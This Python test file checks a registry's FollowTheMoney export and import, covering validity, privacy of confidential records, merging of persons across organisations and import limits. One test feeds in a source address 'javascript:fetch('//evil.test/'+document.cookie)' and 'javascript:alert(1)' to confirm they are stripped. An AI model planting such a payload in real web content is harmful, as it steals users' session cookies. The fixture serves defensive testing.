"""FollowTheMoney exchange: every exported entity is valid for the real library; a registry exported and
imported into an empty one as another organisation has the same persons, cases and charges; two
organisations' overlapping persons merge into one person with both organisations' claims kept."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from click.testing import CliRunner
from followthemoney import model
from followthemoney.cli.cli import cli as ftm_cli
from sqlalchemy import select

from kartoteka.db.tables import assessments, statements
from kartoteka.services.ftm_export import export_ftm
from kartoteka.services.ftm_import import import_ftm
from kartoteka.services.imports import import_file
from kartoteka.services.persons import get_person
from kartoteka.services.statements import merge_persons, person_claims
from tests.conftest import Db

PERSONS = """id,surname,given_name,patronymic,aliases,birth_date,gender,citizenship,region,sensitivity
P1,Тестова,Олена,Игоревна,Testova Olena,1984-02-11,f,RU,Самара,public
P2,Примеров,Пётр,Сергеевич,,1975,m,RU;BY,,public
P3,Скрытов,Иван,Петрович,,1990-01-01,m,RU,,confidential
"""
CASES = """case_id,person_id,jurisdiction,case_number,articles,court,detained_on,verdict_on,sentence,facility,status,sensitivity
C1,P1,RU,1-23/2023,"ч. 2 ст. 207.3 УК РФ",Самарский районный суд,2023-03-01,2023-09-10,7 лет,ИК-1,,public
C2,P2,RU,,ст. 280.3 УК РФ,,2022-05-05,,,,,public
C3,P3,RU,,ст. 275 УК РФ,,2022-05-05,,,,,confidential
"""


def _registry(db: Db, tmp: Path, persons: str = PERSONS, cases: str | None = CASES) -> None:
    """The persons and (unless None: a file of a header alone is refused) cases imported."""
    (tmp / "p.csv").write_text(persons, "utf-8")
    import_file(db.engine, "persons", tmp / "p.csv", actor="t")
    if cases is not None:
        (tmp / "c.csv").write_text(cases, "utf-8")
        import_file(db.engine, "cases", tmp / "c.csv", actor="t")


def _evidence(db: Db, tmp: Path) -> None:
    """A public source cited for P1 and its case, and a recognition of P1."""
    from kartoteka.db import audit
    from kartoteka.services.evidence import add_source, cite
    from kartoteka.services.persons import resolve_person_id

    sid = add_source(db.engine, actor="t", media_dir=tmp / "media", url="https://example.org/news/1",
                     title="Приговор", publisher="Example News", accessed_on="2024-01-02", sensitivity="public")
    with db.engine.begin() as conn:
        pid = resolve_person_id(conn, "P1")
        case_id = get_person(db.engine, "P1").cases[0]["id"]
        audit.create_record(conn, assessments, "assessment", {
            "person_id": pid, "definition_id": "guidelines-2013", "definition_version": "1", "state": "decided",
            "decision": "recognised", "decided_on": "2024-03-01", "rationale": "https://example.org/statement/1"},
            actor="t")
    cite(db.engine, actor="t", source_id=sid, entity_type="person", entity_id=pid)
    cite(db.engine, actor="t", source_id=sid, entity_type="case", entity_id=case_id)


def _lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(x) for x in path.read_text("utf-8").splitlines() if x]


def _sqlite(path: Path) -> Any:
    from kartoteka.db.engine import make_engine
    from kartoteka.db.schema import upgrade_schema

    engine = make_engine(f"sqlite:///{path}")
    upgrade_schema(engine)
    return engine


def _fresh(db: Db, tmp: Path) -> Any:
    """An empty second registry on the same backend."""
    from kartoteka.db.engine import make_engine
    from kartoteka.db.schema import upgrade_schema

    if db.backend == "sqlite":
        engine = make_engine(f"sqlite:///{tmp / 'second.db'}")
        upgrade_schema(engine)
        return engine
    from sqlalchemy import text
    with db.engine.begin() as conn:   # the same database, emptied: persons and cases were read already
        for t in ("charges", "citations", "statements", "recognitions", "assessments", "cases", "person_names",
                  "name_keys", "persons", "sources"):
            conn.execute(text(f"DELETE FROM {t}"))
    return db.engine


def test_every_entity_is_valid_followthemoney_and_only_public_records_go_out(db: Db, tmp_path: Path) -> None:
    _registry(db, tmp_path)
    _evidence(db, tmp_path)
    report = export_ftm(db.engine, out=tmp_path / "out.ftm.json")
    entities = _lines(tmp_path / "out.ftm.json")
    assert (report.persons, report.cases) == (2, 2)
    for e in entities:
        schema = model.get(e["schema"])
        assert schema is not None and not schema.abstract, e
        assert set(e["properties"]) <= set(schema.properties), e              # no property FtM does not know
        assert set(schema.required) <= set(e["properties"]), e                # every required one present
        schema.validate(e)                                                    # raises InvalidData on a bad value
        cleaned = model.get_proxy(e).to_dict()["properties"]                 # the library's own cleaning ...
        assert {k: sorted(v) for k, v in cleaned.items()} == {k: sorted(v) for k, v in e["properties"].items()}, e
        for prop, values in e["properties"].items():                          # ... and entity references resolve
            if schema.properties[prop].type.name == "entity":
                assert all(v in {x["id"] for x in entities} for v in values), (e, prop)
    assert {e["schema"] for e in entities} == {"Person", "CourtCase", "CourtCaseParty", "Document", "Documentation",
                                               "Sanction"}
    person = next(e for e in entities if e["id"] == "kartoteka-person-P1")
    assert person["properties"]["fatherName"] == ["Игоревна"]
    assert set(person["properties"]["name"]) == {"Тестова Олена Игоревна"}
    assert person["properties"]["alias"] == ["Testova Olena"]
    assert person["properties"]["firstName"] == ["Олена"]          # parts of the main names only, not guessed
    assert person["properties"]["birthDate"] == ["1984-02-11"]
    validated = tmp_path / "validated.json"                                   # the library's own CLI: ftm validate
    result = CliRunner().invoke(ftm_cli, ["validate", "-i", str(tmp_path / "out.ftm.json"), "-o", str(validated)])
    assert result.exit_code == 0, result.output
    assert sorted((e["id"], json.dumps({k: sorted(v) for k, v in e["properties"].items()}, sort_keys=True))
                  for e in _lines(validated)) == sorted(
        (e["id"], json.dumps({k: sorted(v) for k, v in e["properties"].items()}, sort_keys=True))
        for e in entities)
    text = (tmp_path / "out.ftm.json").read_text("utf-8")
    assert "Скрытов" not in text and "275" not in text          # confidential person and case stay home
    assert "ИК-1" not in text                                    # facility is not whitelisted for the public
    assert (tmp_path / "out.ftm.json").stat().st_mode & 0o777 == 0o600
    internal = export_ftm(db.engine, out=tmp_path / "int.json", audience="internal")
    assert internal.persons == 2 and "ИК-1" in (tmp_path / "int.json").read_text("utf-8")
    assert export_ftm(db.engine, out=tmp_path / "again.json").entities == report.entities
    assert (tmp_path / "again.json").read_bytes() == (tmp_path / "out.ftm.json").read_bytes()   # stable ids


def _snapshot(engine: Any, ext: str) -> dict[str, Any]:
    d = get_person(engine, ext)
    return {"names": sorted((n["kind"], n["full"], n["surname"], n["given_name"], n["patronymic"]) for n in d.names),
            "person": {k: d.person[k] for k in ("gender", "birth_date", "birth_precision", "citizenship", "region")},
            "cases": sorted((c["ext_id"], c["jurisdiction"], c["case_number"], c["articles_text"], c["court"],
                             c["detained_on"], c["verdict_on"], c["sentence"]) for c in d.cases),
            "charges": sorted((ch["code"], ch["article"], ch["part"], ch["raw"]) for chs in d.charges.values()
                              for ch in chs)}


def test_round_trip_into_an_empty_registry_as_another_organisation(db: Db, tmp_path: Path) -> None:
    _registry(db, tmp_path)
    _evidence(db, tmp_path)
    export_ftm(db.engine, out=tmp_path / "a.json")
    before = {ext: _snapshot(db.engine, ext) for ext in ("P1", "P2")}
    sources_before = sorted((s["url"], s["title"], s["publisher"], s["accessed_on"])
                            for s in get_person(db.engine, "P1").sources)
    assert before["P1"]["charges"]
    second = _fresh(db, tmp_path)
    report = import_ftm(second, path=tmp_path / "a.json", organisation="Org A", actor="t")
    assert (report.created, report.merged, report.cases, report.review) == (2, 0, 2, [])
    assert {ext: _snapshot(second, ext) for ext in ("P1", "P2")} == before
    assert sorted((s["url"], s["title"], s["publisher"], s["accessed_on"])
                  for s in get_person(second, "P1").sources) == sources_before == [
        ("https://example.org/news/1", "Приговор", "Example News", "2024-01-02")]
    assert report.recognitions == 1 and report.sources == 1
    from kartoteka.services.persons import person_history
    assert [h["action"] for h in person_history(second, "P1") if h["entity_type"] == "person"][:1] == ["create"]
    with second.connect() as conn:
        said = list(conn.execute(select(statements)))
    assert {r.organisation for r in said} == {"Org A"}
    assert {r.entity_type for r in said if r.prop == "record"} == {"person", "case", "source", "recognition"}
    again = import_ftm(second, path=tmp_path / "a.json", organisation="Org A", actor="t")
    assert (again.created, again.merged, again.cases, again.sources, again.recognitions, again.statements) == (
        0, 0, 0, 0, 0, 0)                                                        # nothing twice


def test_fragments_of_one_entity_are_read_as_one(tmp_path: Path, db: Db) -> None:
    path = tmp_path / "fragments.json"
    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
        {"id": "x-person-7", "schema": "Person", "properties": {"name": ["Фрагментов Фрол Фомич"]}},
        {"id": "x-person-7", "schema": "Person", "properties": {"birthDate": ["1970-01-02"], "alias": ["Frol"]}},
    ]) + "\n", "utf-8")
    report = import_ftm(db.engine, path=path, organisation="Org X", actor="t")
    assert (report.entities, report.created) == (1, 1)
    person = get_person(db.engine, "7")
    assert person.person["birth_date"] == "1970-01-02" and len(person.names) == 2


def test_another_organisations_odd_values_are_cleaned_not_refused(tmp_path: Path, db: Db) -> None:
    path = tmp_path / "odd.json"
    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
        {"id": "y-person-1", "schema": "Person", "properties": {"name": ["Нулев\u0000 Нуль " + "Н" * 600],
                                                                "birthDate": ["not a date"], "gender": ["other"]}},
        {"id": "y-case-1", "schema": "CourtCase", "properties": {"caseNumber": ["№" * 1000], "name": ["x"]}},
        {"id": "y-party-1", "schema": "CourtCaseParty", "properties": {"party": ["y-person-1"], "case": ["y-case-1"]}},
        {"id": "y-org-1", "schema": "Organization", "properties": {"name": ["Some Org"]}},
    ]) + "\n", "utf-8")
    report = import_ftm(db.engine, path=path, organisation="Org Y", actor="t")
    assert (report.created, report.cases, report.skipped) == (1, 1, 1)       # the Organization is skipped
    person = get_person(db.engine, "1")
    assert "\u0000" not in person.names[0]["full"] and len(person.names[0]["full"]) == 400
    assert person.person["birth_date"] is None and person.person["gender"] is None
    assert len(person.cases[0]["case_number"]) == 200


OTHER = """id,surname,given_name,patronymic,aliases,birth_date,gender,citizenship,region,sensitivity
B7,Тестова,Елена,Игоревна,,1984-02-11,f,RU,,public
B8,Примеров,Петр,Сергеевич,,1976-03-03,m,RU,,public
B9,Новикова,Анна,,,1999,f,UA,,public
"""
OTHER_CASES = """case_id,person_id,jurisdiction,articles,detained_on,facility,sensitivity
K1,B8,RU,ст. 280.3 УК РФ,2022-05-06,СИЗО-2,public
"""


def test_two_organisations_merge_with_both_claims_kept_and_the_disagreement_shown(db: Db, tmp_path: Path) -> None:
    _registry(db, tmp_path)                                  # this registry: P1, P2 (P3 confidential)
    other = tmp_path / "b"
    other.mkdir()
    second = _sqlite(tmp_path / "org-b.db")                  # Org B's own registry; the merge runs on db
    _registry(Db("", second, "sqlite"), other, OTHER, OTHER_CASES)
    export_ftm(second, out=tmp_path / "b.json", audience="internal")   # partners see facilities
    # Org B's records are public (OTHER): imported as public, they may merge into the public P1 (an internal
    # file would be held for review against it: test_an_internal_file_never_merges_into_a_public_person)
    report = import_ftm(db.engine, path=tmp_path / "b.json", organisation="Org B", actor="t", sensitivity="public")
    assert report.merged == 1                                # Елена / Олена, same birth date: merged at once
    assert [(r.new_person, r.existing) for r in report.review] == [("B8", "P2")]   # other birth year: review
    assert report.created == 2                               # B8 (held for review) and B9 (new)
    p1 = get_person(db.engine, "P1")
    assert "Тестова Елена Игоревна" in {n["full"] for n in p1.names}
    assert p1.person["birth_date"] == "1984-02-11"
    held = {c.prop: c for c in person_claims(db.engine, person="B8")}
    assert held["possibly_same"].values[0].value.startswith("P2 (")     # the review pair shows on its page
    merge_persons(db.engine, keep="P2", other="B8", actor="reviewer")
    claims = {c.prop: c for c in person_claims(db.engine, person="P2")}
    birth = claims["birth_date"]
    assert birth.disagree
    assert {(s.value, o) for s in birth.values for o, _ in s.organisations} == {
        ("1975", "this registry"), ("1976-03-03", "Org B")}
    assert get_person(db.engine, "P2").person["birth_date"] == "1975"          # not overwritten
    assert {c["ext_id"] for c in get_person(db.engine, "P2").cases} == {"C2", "K1"}
    names = {s.value: [o for o, _ in s.organisations] for s in claims["name"].values}
    assert names == {"Примеров Пётр Сергеевич": ["this registry"],                 # a spelling is not a dispute
                     "Примеров Петр Сергеевич": ["this registry", "Org B"]} and not claims["name"].disagree
    assert "possibly_same" not in claims                                  # settled by the merge
    assert get_person(db.engine, "B8").person["deleted_at"] is not None
    assert "Org B" in {o for s in claims["custody"].values for o, _ in s.organisations}


def test_recognitions_travel_as_sanction_entities(db: Db, tmp_path: Path) -> None:
    _registry(db, tmp_path)
    _evidence(db, tmp_path)
    export_ftm(db.engine, out=tmp_path / "r.json", organisation="Org A")
    sanctions = [e for e in _lines(tmp_path / "r.json") if e["schema"] == "Sanction"]
    assert len(sanctions) == 1
    props = sanctions[0]["properties"]
    assert props["authority"] == ["Org A"] and props["listingDate"] == ["2024-03-01"]
    assert props["programId"] == ["guidelines-2013"] and props["sourceUrl"] == ["https://example.org/statement/1"]
    second = _fresh(db, tmp_path)
    report = import_ftm(second, path=tmp_path / "r.json", organisation="Org A", actor="t")
    assert report.recognitions == 1
    claims = {c.prop: c for c in person_claims(second, person="P1")}
    assert claims["recognition"].values[0].value.startswith("Org A (2024-03-01)")
    from kartoteka.services.custody import recognitions_of     # what vetting reports show as "recognised by"
    from kartoteka.services.persons import resolve_person_id
    with second.connect() as conn:
        labels = [r.label() for rs in recognitions_of(conn, [resolve_person_id(conn, "P1")]).values() for r in rs]
    assert labels == ["Org A (2024-03-01)"]


def test_dry_run_writes_nothing_and_a_reimport_replaces_the_organisations_own_older_value(db: Db, tmp_path: Path) -> None:
    _registry(db, tmp_path)
    export_ftm(db.engine, out=tmp_path / "a.json")
    second = _fresh(db, tmp_path)
    dry = import_ftm(second, path=tmp_path / "a.json", organisation="Org A", actor="t", dry_run=True)
    assert dry.created == 2
    with second.connect() as conn:
        assert conn.execute(select(statements)).first() is None
    import_ftm(second, path=tmp_path / "a.json", organisation="Org A", actor="t")
    changed = tmp_path / "a2.json"                       # Org A corrects P1's birth date in its next list
    changed.write_text((tmp_path / "a.json").read_text("utf-8").replace("1984-02-11", "1984-02-12"), "utf-8")
    again = import_ftm(second, path=changed, organisation="Org A", actor="t")
    assert (again.created, again.replaced, again.statements) == (0, 1, 1)
    birth = {c.prop: c for c in person_claims(second, person="P1")}["birth_date"]
    assert {(s.value, o) for s in birth.values for o, _ in s.organisations} == {
        ("1984-02-11", "this registry"), ("1984-02-12", "Org A")}   # the registry's value stays; A's is current


def test_an_internal_file_never_merges_into_a_public_person(db: Db, tmp_path: Path) -> None:
    """Leak: an internal file (the default) merged into a public person, and `kartoteka publish` then wrote its
    alias and the address it filled in; now it is a new internal record held for review, as a confidential
    file's person is, and nothing of it is published."""
    from kartoteka.services.publish import publish

    _registry(db, tmp_path)                                  # P1 public, born 1984-02-11, no region
    path = tmp_path / "internal.json"
    path.write_text(json.dumps({"id": "i-1", "schema": "Person", "properties": {
        "name": ["Тестова Олена Ігорівна"], "birthDate": ["1984-02-11"], "alias": ["Внутрішній Псевдонім"],
        "address": ["Внутрішнє село"]}}, ensure_ascii=False) + "\n", "utf-8")
    report = import_ftm(db.engine, path=path, organisation="Org I", actor="t")
    assert (report.merged, report.created) == (0, 1) and [r.existing for r in report.review] == ["P1"]
    publish(db.engine, out=tmp_path / "pub")
    published = (tmp_path / "pub" / "persons.jsonl").read_text("utf-8")
    assert "Тестова" in published and "Внутрішній" not in published and "Внутрішнє село" not in published
    held = next(r.new_person for r in report.review)
    assert get_person(db.engine, held).person["sensitivity"] == "internal"


def test_long_ids_alike_in_their_stored_length_are_two_records(db: Db, tmp_path: Path) -> None:
    """Two persons whose ids share their first 120 characters were both stored under that prefix: the unique
    ext_id failed with a traceback (sqlite3.IntegrityError) and nothing was imported."""
    stem = "z-person-" + "x" * 130
    path = tmp_path / "long.json"
    path.write_text("\n".join(json.dumps({"id": stem + tail, "schema": "Person", "properties": {"name": [name]}},
                                         ensure_ascii=False)
                              for tail, name in (("A", "Длиннов Первый"), ("B", "Длиннов Второй"))) + "\n", "utf-8")
    report = import_ftm(db.engine, path=path, organisation="Org Z", actor="t")
    assert report.created == 2
    again = import_ftm(db.engine, path=path, organisation="Org Z", actor="t")   # found again by their statements
    assert (again.created, again.statements) == (0, 0)


def test_the_import_audits_its_citations_and_says_why_a_match_is_held(db: Db, tmp_path: Path) -> None:
    """A citation the import wrote had no audit entry (a source cited by hand logs 'cite'); and a person held
    for review because the file is more closely held than the matched public person was explained as 'the
    birth dates differ' when they were the same."""
    from kartoteka.db.tables import audit_log, citations, imports

    _registry(db, tmp_path)                                  # P1 public, born 1984-02-11
    path = tmp_path / "b.json"
    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
        {"id": "b-person-1", "schema": "Person", "properties": {"name": ["Тестова Олена Ігорівна"],
                                                                "birthDate": ["1984-02-11"]}},
        {"id": "b-doc-1", "schema": "Document", "properties": {"title": ["Звіт"], "sourceUrl": ["https://x.test/1"]}},
        {"id": "b-dd-1", "schema": "Documentation", "properties": {"document": ["b-doc-1"], "entity": ["b-person-1"]}},
    ]) + "\n", "utf-8")
    report = import_ftm(db.engine, path=path, organisation="Org B", actor="t")
    assert [r.existing for r in report.review] == ["P1"]
    assert "birth dates differ" not in report.review[0].reason and "more closely held" in report.review[0].reason
    with db.engine.connect() as conn:
        batch = conn.execute(select(imports.c.id).where(imports.c.kind == "ftm")).scalar_one()
        cited = conn.execute(select(citations.c.entity_type, citations.c.entity_id)).all()
        logged = conn.execute(select(audit_log.c.entity_type, audit_log.c.entity_id).where(
            audit_log.c.batch == batch, audit_log.c.action == "cite")).all()
    assert len(cited) == 1 and sorted(logged) == sorted(cited)


def _hidden_first(engine: Any, tmp: Path, *, hidden: bool) -> None:
    """P1 public with a public source and recognition; with ``hidden``, a confidential person's source and
    recognition are recorded first, taking the first database ids."""
    from kartoteka.services.custody import add_recognition
    from kartoteka.services.evidence import add_source, cite

    class _Db:   # what _registry needs of the fixture
        def __init__(self, engine: Any) -> None:
            self.engine = engine

    _registry(_Db(engine), tmp)                                # type: ignore[arg-type]
    people = {ext: get_person(engine, ext).person["id"] for ext in ("P1", "P3")}
    order = (("P3", "confidential", "https://example.org/hidden"),) if hidden else ()
    for ext, level, url in (*order, ("P1", "public", "https://example.org/open")):
        sid = add_source(engine, actor="t", media_dir=tmp / "media", url=url, title="Статья", sensitivity=level)
        cite(engine, actor="t", source_id=sid, entity_type="person", entity_id=people[ext])
        add_recognition(engine, person=ext, organisation="Memorial", statement=url, stated_on="2024-03-01",
                        actor="t", role="reviewer")


def test_ftm_ids_say_nothing_of_the_records_left_out(tmp_path: Path) -> None:
    """Leak: a Document's id was its database id and a Sanction's its recognition's ('kartoteka-source-2',
    'kartoteka-recognition-r2'), so a public file showed that records hidden from it came before. Now the
    export of a registry with hidden records is the export of one in which they never existed."""
    files = []
    for hidden in (True, False):
        folder = tmp_path / f"hidden-{hidden}"
        folder.mkdir()
        engine = _sqlite(folder / "k.db")
        _hidden_first(engine, folder, hidden=hidden)
        export_ftm(engine, out=folder / "out.ftm.json")
        files.append((folder / "out.ftm.json").read_text("utf-8"))
    assert '"Document"' in files[0] and '"Sanction"' in files[0] and "hidden" not in files[0]
    assert files[0] == files[1]
    ids = [e["id"] for e in map(json.loads, files[0].splitlines())]
    assert len(ids) == len(set(ids))


def test_a_recognition_under_a_new_id_is_not_recorded_twice(db: Db, tmp_path: Path) -> None:
    """A partner's file exported before the ids were content keys, then after: the same recognition once."""
    path = tmp_path / "r.json"
    rec = {"entity": ["w-person-1"], "authority": ["Memorial"], "listingDate": ["2024-03-01"],
           "reason": ["https://example.org/r"]}
    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
        {"id": "w-person-1", "schema": "Person", "properties": {"name": ["Признанов Пётр"]}},
        {"id": "w-recognition-r7", "schema": "Sanction", "properties": rec},
        {"id": "w-recognition-0f3a9c", "schema": "Sanction", "properties": rec},
    ]) + "\n", "utf-8")
    assert import_ftm(db.engine, path=path, organisation="Org W", actor="t").recognitions == 1


def test_a_source_address_that_is_not_http_is_left_out(db: Db, tmp_path: Path) -> None:
    """Another organisation's Document with sourceUrl 'javascript:...' was stored as the source's address, which
    the person page renders as a link and `publish` writes to sources.jsonl; a source added by hand refuses it."""
    from kartoteka.db.tables import recognitions, sources

    path = tmp_path / "x.json"
    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
        {"id": "v-person-1", "schema": "Person", "properties": {"name": ["Ссылкин Семён"]}},
        {"id": "v-doc-1", "schema": "Document", "properties": {"title": ["Один"], "sourceUrl": [
            "javascript:fetch('//evil.test/'+document.cookie)", "https://example.org/ok"]}},
        {"id": "v-doc-2", "schema": "Document", "properties": {"title": ["Два"], "sourceUrl": ["data:text/html,<b>"]}},
        {"id": "v-dd-1", "schema": "Documentation", "properties": {"document": ["v-doc-1"], "entity": ["v-person-1"]}},
        {"id": "v-dd-2", "schema": "Documentation", "properties": {"document": ["v-doc-2"], "entity": ["v-person-1"]}},
        {"id": "v-rec-1", "schema": "Sanction", "properties": {"entity": ["v-person-1"], "listingDate": ["2024-01"],
                                                             "sourceUrl": ["javascript:alert(1)"], "reason": ["Заявление"]}},
    ]) + "\n", "utf-8")
    report = import_ftm(db.engine, path=path, organisation="Org V", actor="t")
    assert (report.sources, report.recognitions) == (2, 1)
    with db.engine.connect() as conn:
        urls = dict(conn.execute(select(sources.c.title, sources.c.url)).all())
        said = conn.execute(select(statements.c.value).where(statements.c.prop == "recognition")).scalars().all()
        recognised = conn.execute(select(recognitions.c.statement)).scalars().all()
    assert urls == {"Один": "https://example.org/ok", "Два": ""}
    assert recognised == ["Заявление"] and said and all("javascript" not in v for v in said)


def test_what_is_left_out_is_named_by_line_and_entity_in_each_language(db: Db, tmp_path: Path) -> None:
    """An entity left out (no name, no date, an unknown schema, nothing linking it) or a value left empty (a
    date that is none) was only counted as 'skipped': the report now names each, by line and id."""
    from kartoteka.web.i18n import translations

    path = tmp_path / "notes.json"
    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
        {"id": "n-person-1", "schema": "Person", "properties": {"name": ["Датов Дат"], "birthDate": ["1984-13-45"]}},
        {"id": "n-person-2", "schema": "Person", "properties": {"alias": []}},
        {"id": "n-company-1", "schema": "Company", "properties": {"name": ["ООО Тест"]}},
        {"id": "n-case-1", "schema": "CourtCase", "properties": {"name": ["Дело"]}},
        {"id": "n-rec-1", "schema": "Sanction", "properties": {"entity": ["n-person-1"]}},
        {"id": "n-rec-2", "schema": "Sanction", "properties": {"entity": ["nobody"], "listingDate": ["2024"]}},
        {"id": "n-doc-1", "schema": "Document", "properties": {"title": ["Ничей"]}},
    ]) + "\n", "utf-8")
    report = import_ftm(db.engine, path=path, organisation="Org N", actor="t", dry_run=True)
    assert [str(n) for n in report.notes] == [
        "line 1: Person n-person-1: birthDate '1984-13-45' is not a date (YYYY, YYYY-MM or YYYY-MM-DD); left empty",
        "line 2: Person n-person-2 left out: it has no name",
        "line 3: Company n-company-1 left out: Kartoteka reads Person, CourtCase, CourtCaseParty, Document, "
        "Documentation and Sanction",
        "line 4: CourtCase n-case-1 left out: no CourtCaseParty links it to a person of the file",
        "line 5: Sanction n-rec-1 left out: it has no listingDate or startDate",
        "line 6: Sanction n-rec-2 left out: it names no person or case of the file",
        "line 7: Document n-doc-1 left out: no Documentation links it to a person or case of the file"]
    assert report.notes[1].translated(translations("uk").gettext) == "рядок 2: Person n-person-2 пропущено: у нього немає імені"
    assert report.notes[0].translated(translations("ru").gettext).startswith("строка 1: Person n-person-1: birthDate")
    assert get_person_or_none(db, "n-person-1") is None                 # a dry run writes nothing


def get_person_or_none(db: Db, ext: str) -> Any:
    from kartoteka.db.tables import persons

    with db.engine.connect() as conn:
        return conn.execute(select(persons.c.id).where(persons.c.ext_id == ext)).first()


def test_a_missing_file_or_a_folder_is_named_not_a_traceback(db: Db, tmp_path: Path) -> None:
    """`import ftm nonexist.json` ended in FileNotFoundError, a folder in IsADirectoryError."""
    import pytest

    from kartoteka.errors import InvalidInput

    for path in (tmp_path / "nonexist.json", tmp_path):
        with pytest.raises(InvalidInput, match="no such file"):
            import_ftm(db.engine, path=path, organisation="Org X", actor="t")


def test_one_person_written_twice_in_a_file_is_listed_for_review(db: Db, tmp_path: Path) -> None:
    """A file holding one person in Cyrillic and in Latin made two new persons with nothing linking them (the
    matcher saw the registry as it was before the file)."""
    path = tmp_path / "twice.json"
    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
        {"id": "t-person-1", "schema": "Person", "properties": {"name": ["Шевченко Тарас Григорович"],
                                                                "birthDate": ["1979"]}},
        {"id": "t-person-2", "schema": "Person", "properties": {"name": ["Коваленко Оксана"], "birthDate": ["1990"]}},
        {"id": "t-person-3", "schema": "Person", "properties": {"name": ["Shevchenko Taras Hryhorovych"],
                                                                "birthDate": ["1979-05"]}},
    ]) + "\n", "utf-8")
    report = import_ftm(db.engine, path=path, organisation="Org T", actor="t")
    assert report.created == 3
    assert [(r.new_person, r.existing) for r in report.review] == [("3", "1")]
    assert report.review[0].because == "both are in this file" and report.review[0].score >= 0.7
    claims = {c.prop: c for c in person_claims(db.engine, person="3")}
    assert claims["possibly_same"].values[0].value.startswith("1 (")


def test_a_judge_named_as_a_party_is_neither_a_person_nor_the_defendant(db: Db, tmp_path: Path) -> None:
    """Court data names judges and prosecutors as CourtCaseParty too: the judge became a registry person, and
    when the judge's party came after the defendant's the case was attached to the judge."""
    path = tmp_path / "court.json"
    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
        {"id": "j-person-1", "schema": "Person", "properties": {"name": ["Подсудимов Игорь"]}},
        {"id": "j-person-2", "schema": "Person", "properties": {"name": ["Судейкин Виктор"]}},
        {"id": "j-case-1", "schema": "CourtCase", "properties": {"name": ["Дело"], "summary": ["ст. 280.3 УК РФ"]}},
        {"id": "j-party-1", "schema": "CourtCaseParty", "properties": {"party": ["j-person-1"], "case": ["j-case-1"],
                                                                       "role": ["defendant"]}},
        {"id": "j-party-2", "schema": "CourtCaseParty", "properties": {"party": ["j-person-2"], "case": ["j-case-1"],
                                                                       "role": ["judge"]}},
    ]) + "\n", "utf-8")
    report = import_ftm(db.engine, path=path, organisation="Org J", actor="t")
    assert (report.created, report.cases) == (1, 1)
    assert get_person(db.engine, "1").cases[0]["articles_text"] == "ст. 280.3 УК РФ"
    assert get_person_or_none(db, "2") is None
    assert [str(n) for n in report.notes] == [
        "line 2: Person j-person-2 left out: a party of the file's cases only as 'judge', not as a defendant"]


def test_a_hostile_file_is_refused_by_the_import_limits(db: Db, tmp_path: Path, monkeypatch: Any) -> None:
    """A line nested 100,000 deep ended in a RecursionError (a traceback), and the file size limit every other
    import keeps (KARTOTEKA_MAX_FILE_MB) did not hold for FtM."""
    import pytest

    from kartoteka.errors import InvalidInput
    from kartoteka.settings import get_settings

    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000 + "\n", "utf-8")
    with pytest.raises(InvalidInput, match="line 1: nested 100000 levels deep"):
        import_ftm(db.engine, path=deep, organisation="Org H", actor="t")
    big = tmp_path / "big.json"
    big.write_text(json.dumps({"id": "h-1", "schema": "Person", "properties": {"name": ["Большов Борис"]}}) + "\n"
                   + " " * (1024 * 1024) + "\n", "utf-8")
    monkeypatch.setenv("KARTOTEKA_MAX_FILE_MB", "1")
    get_settings.cache_clear()
    try:
        with pytest.raises(InvalidInput, match="over the limit of 1 MB"):
            import_ftm(db.engine, path=big, organisation="Org H", actor="t")
    finally:
        monkeypatch.undo()
        get_settings.cache_clear()
